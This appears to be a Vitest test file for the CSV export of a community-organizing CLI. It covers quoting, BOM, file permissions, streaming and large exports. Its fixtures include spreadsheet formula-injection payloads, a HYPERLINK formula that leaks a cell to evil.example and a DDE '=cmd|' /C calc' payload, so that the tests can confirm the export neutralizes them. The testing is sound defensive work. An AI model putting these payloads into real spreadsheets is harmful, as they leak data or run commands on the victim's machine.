import { parse } from 'csv-parse/sync';
import { spawnSync } from 'node:child_process';
import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, ENGINE, sandbox, type Sandbox } from './helpers.js';
import { runInPty } from './pty.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '+1', '-2+3', '@SUM(A1:A9)'];
const TRICKY = 'her kids\' safety, "above all"\nand the rent 🏠';

function csvOf(text: string): Record<string, string>[] {
  return parse(text, { columns: true, bom: true }) as Record<string, string>[];
}

/** 2020-01-01 plus `i` times ten minutes, as a time: no date arithmetic is written alike in both dialects. */
function tenMinutesAfter2020(i: string): string {
  return ENGINE === 'postgres'
    ? `timestamptz '2020-01-01T00:00:00Z' + ${i} * interval '600 seconds'`
    : `strftime('%Y-%m-%dT%H:%M:%S.000Z', '2020-01-01', '+' || (${i} * 600) || ' seconds')`;
}

/**
 * Meetings added in bulk. On the server a trigger recounts the person's figures for each new meeting, all in the one
 * statement (so over ever longer chains of row versions): 200,000 of them ran for over 15 minutes. So the recount is
 * off for the fill, and each person is recounted once after. Then ANALYZE, as autovacuum would a minute after such a
 * load: without statistics the export took 68 s, with them 9 s.
 */
function withoutRecounts(box: Sandbox, insert: string): void {
  if (ENGINE === 'sqlite') return void box.sql(insert);
  box.sql(`ALTER TABLE meetings DISABLE TRIGGER person_figures_meetings; ${insert};
    ALTER TABLE meetings ENABLE TRIGGER person_figures_meetings; SELECT refresh_person_figures(id) FROM people`);
}

/**
 * Cells that CSV and the formula guard have to get right, long and short, so rows of many sizes fall across the
 * export's 64 kB chunks; the emoji (four bytes each) make sure a chunk ends inside a character somewhere.
 */
const HARD_CELLS = [
  '', 'plain', 'a,b', 'say "hi", then "bye"', 'line\nbreak', 'crlf\r\nend', 'lone\rcr', 'ends with cr\r', '=1+2', '+1 555 0100',
  '-3', '@SUM(A1:A9)', '\tTab first', '\r=x', "'=already guarded", "''=twice", "'just a quote", 'back\\slash', ' spaced ',
  'ünïcødé ✓ 家', '🏠'.repeat(37), `${'long, "quoted"\n'.repeat(40)}🏠`, '=cmd|\' /C calc\'!A0',
];

/**
 * RFC 4180 and the guard written out here from their rules, not with the export's CSV library: a text cell behind
 * quotes that then start a formula gets one more quote; a cell with a comma, a quote or a line break is quoted, its
 * quotes doubled; numbers bare, NULL empty; CRLF after every record.
 */
function expectedCsv(rows: (string | number | null)[][]): string {
  const cell = (value: string | number | null): string => {
    if (value === null) return '';
    if (typeof value === 'number') return String(value);
    const guarded = /^'*[=+\-@\t\r]/.test(value) ? `'${value}` : value;
    return /[",\r\n]/.test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded;
  };
  return rows.map((row) => `${row.map(cell).join(',')}\r\n`).join('');
}

/** Write system calls the process made (all of them: stdout, stderr, the database, the runtime's own), read as it exits. */
/**
 * Counts the writes handed to stdout, not the system calls: into a pipe whose reader is slow (a loaded machine) one
 * write may take several calls, and on a server the socket's writes count too.
 */
const WRITES_PROBE = `let writes = 0; const write = process.stdout.write;
  process.stdout.write = function (...args) { writes += 1; return write.apply(this, args); };
  process.on('exit', () => require('node:fs').writeFileSync(process.env.WRITES_FILE, String(writes)));`;

describe('export', () => {
  let box: Sandbox;

  beforeAll(() => {
    box = sandbox();
    const ana = box.run([
      'log', 'Ana Ruiz', '--date', '2026-11-02 18:00', '--minutes', '45', '--goal', 'recruitment',
      '--value', TRICKY, '--value', 'family first', '--issue', FORMULAS[0]!, '--note', FORMULAS[1]!, '--note', FORMULAS[2]!,
      '--skill', FORMULAS[3]!, '--ask', 'come to the tenant meeting', '--outcome', 'yes', '--ask', 'bring a neighbour, maybe two',
      '--rung', 'participant', '--potential', '4', '--email', 'ana@example.org', '--phone', '+1 555 0100',
      '--organization', '=cmd|\' /C calc\'!A0', '--followup', '2099-01-05 10:00', '--followup-note', 'call, "gently"',
    ]);
    expect(ana.code, ana.stderr).toBe(0);
    const bo = box.run(['log', 'Bo Chen', '--date', '2026-11-03 09:30', '--minutes', '20', '--goal', 'maintenance', '--template', 'agenda']);
    expect(bo.code, bo.stderr).toBe(0);
    // `log` records no clock; a meeting run with `start` would have these.
    box.sql(`UPDATE meeting_phases SET actual_seconds = 300, organizer_talk_seconds = 60, other_talk_seconds = 180 WHERE meeting_id = 1`);
  });

  afterAll(() => box.cleanup());

  it('meetings come out one row per meeting with asks, outcomes, rung after and notes by tag, read back field by field', () => {
    const result = box.run(['export', 'meetings']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout.split('\r\n')[0]).toBe(
      'id,person,date,goal,template,status,planned_minutes,actual_minutes,organizer_talk_share,asks,outcomes,rung_after,agitation,' +
        'values,interests,motivations,issues,skills,capacity,stories_shared,lead_ins,other_notes',
    );
    const phases = box.sql<{ n: number }>(`SELECT count(*) AS n FROM meeting_phases WHERE meeting_id = 1`)[0]!.n;
    const heldAt = box.sql<{ held_at: string }>(`SELECT held_at FROM meetings ORDER BY id`).map((row) => row.held_at);
    const rows = csvOf(result.stdout);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual({
      id: '1', person: 'Ana Ruiz', date: heldAt[0], goal: 'recruitment', template: 'agenda', status: 'complete',
      planned_minutes: '45', actual_minutes: String(Math.round((phases * 300) / 6) / 10), organizer_talk_share: '0.25',
      asks: 'come to the tenant meeting (yes) | bring a neighbour, maybe two', outcomes: 'yes | no answer',
      rung_after: 'participant', agitation: '',
      values: `${TRICKY} | family first`, interests: '', motivations: '', issues: `'${FORMULAS[0]}`, skills: `'${FORMULAS[3]}`,
      capacity: '', stories_shared: '', lead_ins: '', other_notes: `'${FORMULAS[1]} | ${FORMULAS[2]}`,
    });
    expect(rows[1]).toMatchObject({ id: '2', person: 'Bo Chen', date: heldAt[1], goal: 'maintenance', planned_minutes: '20', actual_minutes: '', organizer_talk_share: '', asks: '', rung_after: '' });
  });

  it('notes come out one per row, every formula payload behind a single quote and everything else untouched', () => {
    const rows = csvOf(box.run(['export', 'notes']).stdout);
    expect(rows.map((row) => [row.tag, row.note])).toEqual([
      ['value', TRICKY], ['value', 'family first'], ['issue', `'${FORMULAS[0]}`], ['skill', `'${FORMULAS[3]}`],
      ['note', `'${FORMULAS[1]}`], ['note', `'${FORMULAS[2]}`],
    ]);
    expect(rows.every((row) => row.person === 'Ana Ruiz' && row.meeting_id === '1')).toBe(true);
  });

  it('people come out with their contact details, numbers as numbers and a phone starting with + neutralised', () => {
    const result = box.run(['export', 'people']);
    // numbers are written bare, never quoted or prefixed
    expect(result.stdout).toMatch(/\r\n1,Ana Ruiz,participant,4,,ana@example.org,'\+1 555 0100,,'=cmd\|' \/C calc'!A0,,,,,,,1,/);
    const rows = csvOf(result.stdout);
    expect(rows.map((row) => [row.name, row.rung, row.potential, row.email, row.phone, row.organization, row.meetings])).toEqual([
      ['Ana Ruiz', 'participant', '4', 'ana@example.org', "'+1 555 0100", "'=cmd|' /C calc'!A0", '1'],
      ['Bo Chen', 'contact', '', '', '', '', '1'],
    ]);
  });

  it('asks and follow-ups come out with their text, outcome and due date', () => {
    const asks = csvOf(box.run(['export', 'asks']).stdout);
    expect(asks.map((row) => [row.id, row.person, row.meeting_id, row.ask, row.outcome, row.result])).toEqual([
      ['1', 'Ana Ruiz', '1', 'come to the tenant meeting', 'yes', ''],
      ['2', 'Ana Ruiz', '1', 'bring a neighbour, maybe two', '', ''],
    ]);
    const followups = csvOf(box.run(['export', 'followups']).stdout);
    expect(followups).toHaveLength(1);
    expect(followups[0]).toMatchObject({ person: 'Ana Ruiz', followup: 'call, "gently"', done: '' });
    expect(new Date(followups[0]!.due!).getTime()).toBe(new Date(2099, 0, 5, 10, 0).getTime());
  });

  it('--bom starts the file with a byte-order mark and changes nothing else', () => {
    const plain = box.run(['export', 'people']).stdout;
    const withBom = box.run(['export', 'people', '--bom']).stdout;
    expect(withBom.charCodeAt(0)).toBe(0xfeff);
    expect(withBom.slice(1)).toBe(plain);
  });

  it('--out writes a file only its owner can read, even over an existing readable file, and nothing to stdout', () => {
    const out = join(box.dir, 'meetings.csv');
    writeFileSync(out, 'old');
    chmodSync(out, 0o644);
    const result = box.run(['export', 'meetings', '--out', out]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe('');
    expect(result.stderr).toBe(`Wrote 2 meetings to ${out} (readable only by you).\n`); // no progress line when stderr is not a terminal
    expect(statSync(out).mode & 0o777).toBe(0o600);
    expect(readFileSync(out, 'utf8')).toBe(box.run(['export', 'meetings']).stdout);
  });

  it('shows a progress line on stderr when it is a terminal, and clears it at the end', async () => {
    const out = join(box.dir, 'pty.csv');
    const { code, screen } = await runInPty(['export', 'notes', '--out', out], box.env, []);
    expect(code).toBe(0);
    expect(screen).toContain('Exporting notes: 0 of 6 (0%)');
    expect(screen).toContain('Wrote 6 notes');
    expect(csvOf(readFileSync(out, 'utf8'))).toHaveLength(6);
  });

  // Only SQLite's record is a file that --out could name.
  it.skipIf(ENGINE === 'postgres')('refuses to write over the database itself', () => {
    const result = box.run(['export', 'people', '--out', box.db]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('is your database itself');
    expect(box.run(['people', '--json']).code).toBe(0);
  });

  it('an unknown table is a usage error', () => {
    const result = box.run(['export', 'secrets']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('people, meetings, asks, followups, notes');
  });

  describe('3,000 people with hard cells', () => {
    let many: Sandbox;
    let expected: string;
    const PEOPLE = 3000;

    beforeAll(() => {
      many = sandbox();
      // The database made by a command, as in use; the person it needed forgotten again.
      expect(many.run(['log', 'Seed Person', '--date', '2026-01-05 18:00']).code).toBe(0);
      expect(many.run(['forget', 'Seed Person', '--yes']).code).toBe(0);
      const people = Array.from({ length: PEOPLE }, (_, i) => {
        const at = (k: number) => HARD_CELLS[(i * 7 + k * 5) % HARD_CELLS.length]!;
        const empty = (text: string) => (text === '' ? null : text);
        return {
          name: `Person ${i} ${at(0)}`, email: empty(at(1)), phone: empty(at(2)), neighborhood: empty(at(3)),
          organization: empty(at(4)), notes: empty(at(5)), potential: i % 6 === 0 ? null : (i % 5) + 1, interpreter: i % 7 === 0 ? 1 : 0,
        };
      });
      // 50 at a time: on the server each statement is one psql argument, which Linux caps at 128 kB.
      for (let from = 0; from < PEOPLE; from += 50) {
        const part = people.slice(from, from + 50);
        many.sql(
          `INSERT INTO people (name, name_key, email, phone, neighborhood, organization, notes, potential, interpreter, rung, created_at, updated_at)
           VALUES ${part.map(() => `(?, ?, ?, ?, ?, ?, ?, ?, ?, 'contact', '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:00.000Z')`).join(', ')}`,
          part.flatMap((p) => [p.name, p.name.toLowerCase(), p.email, p.phone, p.neighborhood, p.organization, p.notes, p.potential, p.interpreter]),
        );
      }
      const ids = many.sql<{ id: number }>(`SELECT id FROM people ORDER BY id`).map((row) => row.id);
      expect(ids).toHaveLength(PEOPLE);
      expected = expectedCsv([
        [
          'id', 'name', 'rung', 'potential', 'assessment', 'email', 'phone', 'neighborhood', 'organization', 'language', 'interpreter', 'units', 'notes',
          'source', 'referred_by', 'meetings', 'last_met', 'added',
        ],
        ...people.map((p, i) => [
          ids[i]!, p.name, 'contact', p.potential, null, p.email, p.phone, p.neighborhood, p.organization, null, p.interpreter ? 'yes' : null, null, p.notes, null, null, 0, null,
          '2026-01-01T00:00:00.000Z',
        ]),
      ]);
      // The data is the test's point: several chunks, and one of them ending inside a four-byte character.
      const bytes = Buffer.from(expected);
      expect(bytes.length).toBeGreaterThan(4 * 65536);
      const chunkEnds = Array.from({ length: Math.floor(bytes.length / 65536) }, (_, k) => (k + 1) * 65536);
      expect(chunkEnds.some((end) => (bytes[end]! & 0xc0) === 0x80)).toBe(true);
    });

    afterAll(() => many.cleanup());

    it('come out byte for byte as RFC 4180 and the formula guard say, to stdout, with --bom and to a file', () => {
      const result = many.run(['export', 'people']);
      expect(result.code, result.stderr).toBe(0);
      expect(result.stderr).toBe('');
      expect(result.stdout).toBe(expected);
      expect(many.run(['export', 'people', '--bom']).stdout).toBe(`\ufeff${expected}`);
      const out = join(many.dir, 'people.csv');
      expect(many.run(['export', 'people', '--out', out]).code).toBe(0);
      expect(readFileSync(out).equals(Buffer.from(expected))).toBe(true);
      expect(csvOf(expected)).toHaveLength(PEOPLE); // and a CSV reader agrees it is 3,000 records
    });

    // stdout into a pipe is written synchronously on Linux: a write() per row is a system call per row.
    it('are written into a pipe in a few large writes, not one per row', () => {
      const probe = join(many.dir, 'writes.cjs');
      writeFileSync(probe, WRITES_PROBE);
      const counted = join(many.dir, 'writes');
      const result = many.run(['export', 'people'], { env: { NODE_OPTIONS: `--require ${probe}`, WRITES_FILE: counted } });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe(expected);
      const writes = Number(readFileSync(counted, 'utf8'));
      // ~1.9 MB is ~30 writes of 64 kB; one per row would be over 3,000.
      expect(writes).toBeGreaterThan(0);
      expect(writes).toBeLessThan(Math.ceil(Buffer.byteLength(expected) / (64 * 1024)) + 5);
    });

    it('stop quietly when the reader has had enough: `export people | head -1` exits 0 at once, nothing on stderr', () => {
      const errors = join(many.dir, 'head.err');
      const started = Date.now();
      const piped = spawnSync('bash', ['-c', `"${process.execPath}" "${BIN}" export people 2>"${errors}" | head -1; exit \${PIPESTATUS[0]}`], {
        env: many.env, encoding: 'utf8', timeout: 30_000,
      });
      expect(piped.status, readFileSync(errors, 'utf8')).toBe(0);
      expect(piped.stdout).toBe('id,name,rung,potential,assessment,email,phone,neighborhood,organization,language,interpreter,units,notes,source,referred_by,meetings,last_met,added\r\n');
      expect(readFileSync(errors, 'utf8')).toBe('');
      expect(Date.now() - started).toBeLessThan(10_000);
    });
  });

  it('200,000 generated meetings export as 200,000 rows after the header', () => {
    const big = sandbox();
    try {
      expect(big.run(['log', 'Ana Ruiz', '--date', '2026-01-05 18:00']).code).toBe(0);
      // Generated inside the database (a recursive count), so filling takes a moment, not most of the test.
      big.sql(`
        INSERT INTO people (name, name_key, rung, created_at, updated_at)
        WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 499)
        SELECT 'Person ' || i, 'person ' || i, 'contact', '2026-01-01', '2026-01-01' FROM n`);
      withoutRecounts(big, `
        INSERT INTO meetings (person_id, held_at, goal, template, planned_minutes, status, created_at, updated_at)
        WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 199999)
        SELECT 1 + i % 500, ${tenMinutesAfter2020('i')}, 'recruitment', 'agenda', 30, 'complete', '2026-01-01', '2026-01-01' FROM n`);
      big.sql(`
        INSERT INTO notes (person_id, meeting_id, tag, text, created_at)
        SELECT person_id, id, 'value', 'said "yes", line ' || (id - 1) || '
next', '2026-01-01'
        FROM meetings WHERE id > 1 AND (id - 1) % 10 = 0`);
      if (ENGINE === 'postgres') big.sql('ANALYZE');
      const out = join(big.dir, 'all.csv');
      const started = Date.now();
      const result = big.run(['export', 'meetings', '--out', out], { timeout: 120_000 });
      const seconds = (Date.now() - started) / 1000;
      expect(result.code, result.stderr).toBe(0);
      const csv = readFileSync(out, 'utf8');
      // Fields here hold bare \n only, so each CRLF ends one record: count them, then read the tail back properly.
      expect(csv.split('\r\n').length - 2).toBe(200_000);
      const header = csv.slice(0, csv.indexOf('\r\n') + 2);
      const tail = parse(header + csv.slice(csv.indexOf('\r\n199001,') + 2), { columns: true }) as Record<string, string>[];
      expect(tail).toHaveLength(1000);
      expect(tail.at(-1)).toMatchObject({ id: '200000', planned_minutes: '30', values: '', date: new Date(Date.UTC(2020, 0, 1) + 199_999 * 600_000).toISOString() });
      expect(tail.find((row) => row.id === '199991')).toMatchObject({ person: 'Person 489', values: 'said "yes", line 199990\nnext' });
      expect(seconds).toBeLessThan(60);
      console.log(`exported 200,000 meetings in ${seconds.toFixed(1)} s`);
    } finally {
      big.cleanup();
    }
  }, 180_000);
});
